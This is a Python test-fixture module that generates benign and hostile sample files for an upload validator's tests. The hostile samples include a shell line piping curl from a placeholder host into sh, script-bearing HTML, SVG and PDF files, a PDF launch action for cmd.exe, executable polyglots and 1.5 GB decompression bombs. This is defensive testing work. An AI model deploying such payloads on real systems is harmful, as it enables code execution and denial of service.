"""Real sample files, generated in memory: images and PDF by Pillow, Office/OpenDocument packages by
zipfile, OLE2 compound files (.doc/.xls) by a small writer below (olefile cannot write).

Also used by the integration tests, which upload each of them to a real Synapse.
"""

from __future__ import annotations

import functools
import gzip
import io
import random
import shutil
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from PIL import Image


def _image(fmt: str, **kwargs: object) -> bytes:
    img = Image.new("RGB", (64, 48), (200, 30, 60))
    for x in range(64):  # some content, so the encoders do real work
        img.putpixel((x, x % 48), (x * 4, 255 - x * 4, 128))
    buf = io.BytesIO()
    img.save(buf, fmt, **kwargs)
    return buf.getvalue()


def pdf() -> bytes:
    return _image("PDF")


def jpeg() -> bytes:
    return _image("JPEG", quality=85)


def png() -> bytes:
    return _image("PNG")


def gif() -> bytes:
    return _image("GIF")


def webp() -> bytes:
    return _image("WEBP")


def heic() -> bytes:
    """An ISO-BMFF file as written by phones: ``ftyp`` (brand heic) then a ``meta`` box."""
    ftyp = struct.pack(">I4s4sI", 24, b"ftyp", b"heic", 0) + b"mif1heic"
    hdlr = struct.pack(">I4sI4s4s12sB", 33, b"hdlr", 0, b"\0\0\0\0", b"pict", b"\0" * 12, 0)
    meta = struct.pack(">I4sI", 12 + len(hdlr), b"meta", 0) + hdlr
    mdat = struct.pack(">I4s", 8 + 64, b"mdat") + bytes(range(64))
    return ftyp + meta + mdat


def mp4() -> bytes:
    return struct.pack(">I4s4sI", 24, b"ftyp", b"isom", 512) + b"isomiso2" + b"\0" * 200


# --- OOXML ---------------------------------------------------------------------------------------

_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{target}"/></Relationships>'
)


def _content_types(overrides: dict[str, str], *, vba: bool = False) -> str:
    parts = "".join(f'<Override PartName="{name}" ContentType="{ct}"/>' for name, ct in overrides.items())
    default_bin = (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if vba else ""
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{default_bin}{parts}</Types>"
    )


def _zip(entries: list[tuple[str, bytes | str]], *, stored_first: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for i, (name, data) in enumerate(entries):
            compress = zipfile.ZIP_STORED if stored_first and i == 0 else zipfile.ZIP_DEFLATED
            zf.writestr(name, data, compress_type=compress)
    return buf.getvalue()


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PPT_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
_DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Compte rendu de consultation</w:t></w:r></w:p></w:body></w:document>"
)
_WORKBOOK_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheets><sheet name="Feuil1" sheetId="1" r:id="rId1" xmlns:r="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>'
)
_SHEET_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Tension</t></is></c></row></sheetData>'
    "</worksheet>"
)


def docx(*, main_type: str = WORD_MAIN, with_vba: bool = False) -> bytes:
    entries: list[tuple[str, bytes | str]] = [
        ("[Content_Types].xml", _content_types({"/word/document.xml": main_type}, vba=with_vba)),
        ("_rels/.rels", _RELS.format(target="word/document.xml")),
        ("word/document.xml", _DOCUMENT_XML),
    ]
    if with_vba:
        entries.append(("word/vbaProject.bin", ole2([("VBA", [("dir", b"\x01" * 5000)])])))
    return _zip(entries)


def docm() -> bytes:
    return docx(main_type=WORD_MACRO_MAIN, with_vba=True)


def xlsx(*, main_type: str = SHEET_MAIN, with_vba: bool = False) -> bytes:
    entries: list[tuple[str, bytes | str]] = [
        (
            "[Content_Types].xml",
            _content_types(
                {
                    "/xl/workbook.xml": main_type,
                    "/xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument."
                    "spreadsheetml.worksheet+xml",
                },
                vba=with_vba,
            ),
        ),
        ("_rels/.rels", _RELS.format(target="xl/workbook.xml")),
        ("xl/workbook.xml", _WORKBOOK_XML),
        ("xl/worksheets/sheet1.xml", _SHEET_XML),
    ]
    if with_vba:
        entries.append(("xl/vbaProject.bin", ole2([("VBA", [("dir", b"\x01" * 5000)])])))
    return _zip(entries)


def xlsm() -> bytes:
    return xlsx(main_type=SHEET_MACRO_MAIN, with_vba=True)


def docx_with_macro_but_plain_content_type() -> bytes:
    """A .docm renamed .docx whose content types were "cleaned": vbaProject.bin still betrays it."""
    return _zip(
        [
            ("[Content_Types].xml", _content_types({"/word/document.xml": WORD_MAIN})),
            ("_rels/.rels", _RELS.format(target="word/document.xml")),
            ("word/document.xml", _DOCUMENT_XML),
            ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 600),
        ]
    )


def docx_without_content_types() -> bytes:
    return _zip(
        [("_rels/.rels", _RELS.format(target="word/document.xml")), ("word/document.xml", _DOCUMENT_XML)]
    )


def docx_without_document() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", _content_types({"/word/document.xml": WORD_MAIN})),
            ("_rels/.rels", _RELS.format(target="word/document.xml")),
            ("payload.exe", b"MZ" + b"\0" * 100),
        ]
    )


def pptx() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", _content_types({"/ppt/presentation.xml": PPT_MAIN})),
            ("ppt/presentation.xml", "<p:presentation/>"),
        ]
    )


# --- OpenDocument --------------------------------------------------------------------------------

_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
    'manifest:media-type="{mimetype}"/><manifest:file-entry manifest:full-path="content.xml" '
    'manifest:media-type="text/xml"/></manifest:manifest>'
)
_CONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'office:version="1.2"><office:body/></office:document-content>'
)
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def odf(mimetype: str, *, with_basic: bool = False, stored_mimetype: bool = True) -> bytes:
    entries: list[tuple[str, bytes | str]] = [
        ("mimetype", mimetype),
        ("META-INF/manifest.xml", _MANIFEST.format(mimetype=mimetype)),
        ("content.xml", _CONTENT),
    ]
    if with_basic:
        entries.append(("Basic/Standard/Module1.xml", "<script:module>Shell(...)</script:module>"))
    return _zip(entries, stored_first=stored_mimetype)


def odt() -> bytes:
    return odf(ODT)


def ods() -> bytes:
    return odf(ODS)


# --- OLE2 compound files -------------------------------------------------------------------------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
OleTree = list[tuple[str, "bytes | OleTree"]]


def ole2(tree: OleTree) -> bytes:
    """A minimal valid OLE2 compound file (v3, 512-byte sectors) holding ``tree``.

    Streams are padded to 4096 bytes so that they live in regular sectors (no mini stream to
    write); siblings are chained through their right-sibling pointers in name order, which is a
    valid (degenerate) red-black tree once every node is black.
    """
    entries: list[dict[str, object]] = [{"name": "Root Entry", "type": 5, "children": []}]

    def add(items: OleTree, parent: int) -> None:
        ordered = sorted(items, key=lambda it: (len(it[0]), it[0].upper()))
        for name, content in ordered:
            idx = len(entries)
            entries.append({"name": name})
            children = entries[parent]["children"]
            assert isinstance(children, list)
            children.append(idx)
            if isinstance(content, bytes):
                entries[idx].update(type=2, data=content.ljust(4096, b"\0"))
            else:
                entries[idx].update(type=1, children=[])
                add(content, idx)

    add(tree, 0)
    dir_sectors = (len(entries) * 128 + 511) // 512
    next_sector = 1 + dir_sectors  # sector 0 is the FAT
    fat = [_FATSECT] + [i + 2 if i + 2 <= dir_sectors else _END for i in range(dir_sectors)]
    data_blob = b""
    for entry in entries:
        data = entry.get("data")
        if isinstance(data, bytes):
            count = len(data) // 512
            entry["start"] = next_sector
            fat += [next_sector + i + 1 for i in range(count - 1)] + [_END]
            next_sector += count
            data_blob += data
    assert len(fat) <= 128, "sample too large for a single FAT sector"
    fat_sector = struct.pack("<128I", *(fat + [_FREE] * (128 - len(fat))))

    directory = b""
    for idx, entry in enumerate(entries):
        name = str(entry["name"]).encode("utf-16-le") + b"\0\0"
        children = entry.get("children", [])
        assert isinstance(children, list)
        right = _NOSTREAM
        for siblings_holder in entries:
            sibs = siblings_holder.get("children", [])
            assert isinstance(sibs, list)
            if idx in sibs and sibs.index(idx) + 1 < len(sibs):
                right = sibs[sibs.index(idx) + 1]
        data = entry.get("data")
        size = len(data) if isinstance(data, bytes) else 0
        start = int(entry.get("start", _END)) if isinstance(data, bytes) else _END
        if entry["type"] == 5:
            start, size = _END, 0
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            int(entry["type"]),  # type: ignore[call-overload]
            1,  # black
            _NOSTREAM,
            right,
            children[0] if children else _NOSTREAM,
            b"\0" * 16,
            0,
            0,
            0,
            start,
            size,
        )
    directory = directory.ljust(dir_sectors * 512, b"\0")
    # Unused directory slots must read as empty entries with no siblings.
    empty = struct.pack(
        "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"\0" * 16, 0, 0, 0, 0, 0
    )
    used = len(entries) * 128
    directory = directory[:used] + empty * ((len(directory) - used) // 128)

    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x003E,
        0x0003,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,  # directory sectors (must be 0 in v3)
        1,  # FAT sectors
        1,  # first directory sector
        0,
        4096,
        _END,  # first mini FAT sector
        0,
        _END,  # first DIFAT sector
        0,
    )
    header += struct.pack("<I", 0) + struct.pack("<108I", *([_FREE] * 108))
    assert len(header) == 512
    return header + fat_sector + directory + data_blob


def doc(*, with_macros: bool = False) -> bytes:
    # FIB starts with wIdent 0xA5EC ([MS-DOC] 2.5.2).
    tree: OleTree = [
        ("WordDocument", b"\xec\xa5\xc1\x00" + b"\x00" * 508),
        ("1Table", b"\x00" * 512),
        ("\x05SummaryInformation", b"\xfe\xff" + b"\x00" * 46),
    ]
    if with_macros:
        tree.append(("Macros", [("VBA", [("dir", b"\x01" * 300)]), ("PROJECT", b"ID=")]))
    return ole2(tree)


def xls(*, stream: str = "Workbook", with_macros: bool = False) -> bytes:
    # BIFF8 BOF record: type 0x0809, length 16 ([MS-XLS] 2.4.21).
    bof = struct.pack("<HHHHII", 0x0809, 16, 0x0600, 0x0005, 0, 0) + b"\0" * 4
    tree: OleTree = [(stream, bof)]
    if with_macros:
        tree.append(("_VBA_PROJECT_CUR", [("VBA", [("dir", b"\x01" * 300)])]))
    return ole2(tree)


def msi_like() -> bytes:
    return ole2([("\u4840\u3b3f\u43f2\u4438\u45b1", b"\x00" * 100)])


def doc_with_bad_fib() -> bytes:
    return ole2([("WordDocument", b"MZ\x90\x00" + b"\x00" * 100)])


def encrypted_ooxml() -> bytes:
    """What Office writes for a password-protected .docx: an OLE2 file with EncryptedPackage."""
    return ole2([("EncryptionInfo", b"\x04\x00\x04\x00" + b"\x00" * 60), ("EncryptedPackage", b"x")])


# --- things that must be refused -------------------------------------------------------------


def elf() -> bytes:
    """The first 64 KiB of a real Linux executable of this machine."""
    path = Path(shutil.which("true") or "/bin/true")
    return path.read_bytes()[: 64 * 1024]


def pe() -> bytes:
    """A minimal Windows PE image: DOS header, stub, PE signature, COFF and optional headers."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    dos = dos.ljust(0x3C, b"\0") + struct.pack("<I", 0x80)
    dos = dos.ljust(0x80, b"\0")
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<HBB", 0x20B, 14, 0) + b"\0" * (0xF0 - 4)
    section = struct.pack("<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0)
    body = bytes(dos) + coff + optional + section
    return body.ljust(0x200, b"\0") + b"\xc3" * 0x200


def dos_exe() -> bytes:
    """A DOS .com-style MZ program without PE header: still an executable."""
    header = struct.pack("<2sHHHHHHHHHHHHH", b"MZ", 0x50, 2, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x1C, 0)
    return header.ljust(64, b"\0") + b"\xb4\x09\xba\x0e\x01\xcd\x21\xb8\x01\x4c\xcd\x21" * 40


def macho() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", 0x01000007, 3, 2, 15, 1200, 0x85) + b"\0" * 900


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def html() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>Ordonnance</title></head>"
        b"<body><script>document.location='http://example.invalid'</script></body></html>\n"
    )


def svg() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(1)</script><rect width='10' height='10'/></svg>\n"
    )


def plain_text() -> bytes:
    return "Patient vu ce jour, tension normale. À revoir dans 3 mois.\n".encode() * 20


def plain_zip() -> bytes:
    return _zip([("photos/IMG_0001.jpg", jpeg()), ("notes.txt", "bonjour")])


def gzip_file() -> bytes:
    return gzip.compress(plain_text())


def tar_file() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        data = plain_text()
        info = tarfile.TarInfo("notes.txt")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + random.Random(7).randbytes(500)


def rar() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + random.Random(8).randbytes(500)


def zip_bomb_content_types() -> bytes:
    """[Content_Types].xml announcing 50 MB of zeros (compressed to a few KB)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("[Content_Types].xml", "w", force_zip64=False) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(50):
                member.write(chunk)
        zf.writestr("word/document.xml", _DOCUMENT_XML)
    return buf.getvalue()


def zip_with_many_entries(count: int = 6000) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for i in range(count):
            zf.writestr(f"f{i}", b"")
    return buf.getvalue()


def random_bytes(size: int, seed: int = 0) -> bytes:
    return random.Random(seed).randbytes(size)


def low_entropy_unknown(size: int = 4096) -> bytes:
    """Binary, no known signature, clearly structured (a table of small integers)."""
    return b"".join(struct.pack("<IHH", i, i % 7, 0) for i in range(size // 8))


# --- hostile samples (issue 6, item 8) -------------------------------------------------------------


def mz_then_random() -> bytes:
    """A DOS/PE header start followed by random bytes: looks like ciphertext after five bytes."""
    return b"MZ\x90\x00\x03" + random.Random(11).randbytes(4096)


def shebang_then_random() -> bytes:
    """A shell script line followed by a binary payload (a self-extracting installer)."""
    return b'#!/bin/sh\nexec tail -c +42 "$0" | sh\n' + random.Random(12).randbytes(4096)


def pdf_header_then_garbage() -> bytes:
    return b"%PDF-1.4\ngarbage"


def _pdf_with(change: Callable[[pikepdf.Pdf], None], *, object_streams: bool = False) -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as doc:
        change(doc)
        buf = io.BytesIO()
        mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
        doc.save(buf, object_stream_mode=mode, compress_streams=object_streams)
    return buf.getvalue()


def _javascript_action() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')"))


def pdf_open_action_javascript() -> bytes:
    def change(doc: pikepdf.Pdf) -> None:
        doc.Root.OpenAction = _javascript_action()

    return _pdf_with(change)


def pdf_javascript_name_tree() -> bytes:
    def change(doc: pikepdf.Pdf) -> None:
        action = doc.make_indirect(_javascript_action())
        doc.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), action]))
        )

    return _pdf_with(change)


def pdf_page_action_in_object_stream() -> bytes:
    """JavaScript on a page's open trigger, stored in a compressed object stream."""

    def change(doc: pikepdf.Pdf) -> None:
        doc.pages[0].obj.AA = pikepdf.Dictionary(O=doc.make_indirect(_javascript_action()))

    return _pdf_with(change, object_streams=True)


def pdf_launch_action() -> bytes:
    def change(doc: pikepdf.Pdf) -> None:
        doc.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String("C:\\Windows\\System32\\cmd.exe")
        )

    return _pdf_with(change)


def pdf_javascript_hex_encoded_name() -> bytes:
    """``/J#61vaScript`` is ``/JavaScript`` for every PDF reader; offsets are left broken too."""
    return pdf_open_action_javascript().replace(b"/JavaScript", b"/J#61vaScript")


def pdf_with_link() -> bytes:
    """A legitimate PDF with a web link (a URI action, not a script)."""

    def change(doc: pikepdf.Pdf) -> None:
        doc.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("https://www.has-sante.fr/")
        )

    return _pdf_with(change)


def pdf_then_zip_with_exe() -> bytes:
    return pdf() + _zip([("setup.exe", pe())])


def gif_then_zip() -> bytes:
    return gif() + plain_zip()


def jpeg_then_html() -> bytes:
    return jpeg() + b"<html><body><script>document.location='https://x.invalid/'</script></body></html>"


@functools.cache
def docx_inflating_to(total: int = 1536 * 1024 * 1024) -> bytes:
    """A valid .docx whose extra part inflates to ``total`` bytes of zeros (1.5 GB by default)."""
    buf = io.BytesIO(docx())
    with (
        zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as zf,
        zf.open("word/media/image1.bin", "w", force_zip64=True) as member,
    ):
        chunk = b"\0" * (8 * 1024 * 1024)
        for _ in range(total // len(chunk)):
            member.write(chunk)
    return buf.getvalue()


@functools.cache
def pdf_with_huge_object_stream(inflated: int = 1536 * 1024 * 1024) -> bytes:
    """A valid one-page PDF 1.5 whose object stream (holding the page resources) inflates to 1.5 GB."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def obj(num: int, body: bytes) -> None:
        offsets[num] = len(out)
        out.extend(b"%d 0 obj\n" % num + body + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Resources 5 0 R >>")
    header = b"5 0 "
    compressor = zlib.compressobj(9)
    packed = [compressor.compress(header + b"<< >>")]
    chunk = b" " * (16 * 1024 * 1024)
    for _ in range(inflated // len(chunk)):
        packed.append(compressor.compress(chunk))
    packed.append(compressor.flush())
    data = b"".join(packed)
    obj(
        4,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(data))
        + data
        + b"\nendstream",
    )
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows.append(struct.pack(">BIH", 2, 4, 0))
    rows.append(struct.pack(">BIH", 1, xref_at, 0))
    table = b"".join(rows)
    out.extend(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return bytes(out)
